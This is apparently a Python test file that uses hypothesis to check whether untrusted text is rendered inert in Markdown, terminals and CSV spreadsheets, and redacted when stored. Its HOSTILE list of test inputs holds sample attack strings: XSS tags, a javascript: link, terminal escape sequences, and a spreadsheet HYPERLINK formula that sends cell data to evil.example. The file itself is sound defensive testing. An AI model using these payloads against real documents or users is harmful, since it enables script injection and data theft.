"""Whatever somebody else wrote into a cell or a label reads as it stands, and does nothing, wherever it is shown."""

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from schemas.foreign import discreet, in_markdown, in_spreadsheet, quoted, quoting, shown, visible
from schemas.refused import Refused

HOSTILE = [
    "![x](/graphql?query=mutation%7BsetNuxSeen%7D)",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "a | b",
    "`code` **bold** ~~gone~~ _em_ &amp; &#x21;[a](b)",
    "# head",
    "- item",
    "1. item",
    "+",
    "---",
    "===",
    "> said",
    "\\![x](y)",
    "</td></tr><script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "a\n\n# H",
    "[x]: http://evil.example",
    "x\u2069'y\u2068",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
]  # fmt: skip
signs = st.text(st.sampled_from("\\`*_[]<>&|~!()#+-=.:1a \t\n\"'/\u2068\u2069\x1b\x9b\r@"), max_size=30)
texts = st.one_of(st.sampled_from(HOSTILE), signs, st.text(max_size=30), st.lists(signs, max_size=3).map(" ".join))
markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def squeezed(text: str) -> str:
    return " ".join(text.split())


def inside(source: str, kinds: set[str]) -> list[str]:
    """The texts of a Markdown document that has blocks of these kinds and nothing in them but text."""
    tokens = markdown.parse(source)
    assert {token.type for token in tokens} <= kinds | {"inline"}
    inline = [token for token in tokens if token.type == "inline"]
    assert {child.type for token in inline for child in token.children or ()} <= {"text", "text_special"}
    return ["".join(child.content for child in token.children or ()) for token in inline]


PARAGRAPH = {"paragraph_open", "paragraph_close"}
LIST = PARAGRAPH | {"bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"}
TABLE = {f"{part}_{end}" for part in ("table", "thead", "tbody", "tr", "th", "td") for end in ("open", "close")}


@given(texts.filter(squeezed))
@example("1) x")
@example("12345678901. x")
@example("a&lt;b")
def test_in_markdown_a_text_reads_as_it_stands_and_makes_no_picture_link_tag_or_block(text):
    read = squeezed(text).replace("\0", "\ufffd")
    said = in_markdown(text)
    assert inside(said, PARAGRAPH) == [read]
    assert inside(f"- {said}\n- b", LIST) == [read, "b"]
    assert inside(f"| a | b |\n|---|---|\n| {said} | c |", TABLE) == ["a", "b", read, "c"]
    assert inside(f"a: {said} b", PARAGRAPH) == [f"a: {read} b"]


@given(texts)
def test_a_terminal_is_told_nothing_but_letters(text):
    controls = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} - {"\n", "\t"}
    assert not controls & set(visible(text))
    assert visible(visible(text)) == visible(text)
    assert len(visible(text)) == len(text)


def test_text_in_any_script_is_left_as_it_is():
    for text in ("Größe, 100 % – “ja”", "Спасибо", "非常に満足", "مرحبا\u200f", "शुभ"):
        assert visible(text) == text


@given(texts)
@example("=1+1")
@example("@SUM(A1)")
def test_a_spreadsheet_takes_no_text_for_a_formula(text):
    file = io.StringIO()
    csv.writer(file).writerow([in_spreadsheet(text)])
    (cell,) = next(csv.reader(io.StringIO(file.getvalue(), newline="")), [""])
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_number_stays_a_number_in_a_spreadsheet():
    assert in_spreadsheet(-1.5) == -1.5


@given(texts.filter(str.strip), texts.filter(str.strip))
def test_a_cell_that_is_quoted_is_shown_to_who_asks_and_stands_in_nothing_that_is_kept(raw, other):
    sentence = f"row 2: the cell {quoted(raw)} is none, nor {quoting(f'{other!r} (3)')}."
    assert shown(sentence) == f"row 2: the cell {raw!r} is none, nor {other!r} (3)."
    assert discreet(sentence) == "row 2: the cell (see gap check) is none, nor (see gap check)."


def test_a_refusal_that_gathers_others_keeps_their_cells_apart():
    inner = Refused(f"the cell {quoted('Jane')} is none.")
    outer = Refused(*inner.sentences, "and more.")
    assert outer.reasons == str(outer).splitlines() == ["the cell 'Jane' is none.", "and more."]
    assert outer.stored == ["the cell (see gap check) is none.", "and more."]
